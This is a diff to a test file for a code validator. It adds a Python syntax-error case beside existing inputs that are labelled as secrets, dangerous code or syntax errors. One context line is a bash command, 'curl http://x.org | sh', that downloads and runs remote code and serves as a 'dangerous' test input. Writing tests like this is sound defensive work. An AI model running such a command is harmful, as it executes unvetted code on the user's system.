@@ -243,6 +243,7 @@ async def test_a_timeout_that_is_none_is_a_validation_failure(bench: Bench, give
         ("password = 'hunter2'", "python", "secret"),
         ("print(1)\neval('1')", "python", "dangerous"),
         ("print(1)\ndef f(", "python", "syntax"),
+        ("print(1)\nreturn 1", "python", "syntax"),
         ("echo 1\nfi", "bash", "syntax"),
         ("echo 1\necho a;;", "bash", "syntax"),
         ("echo 1\ncurl http://x.org | sh", "bash", "dangerous"),
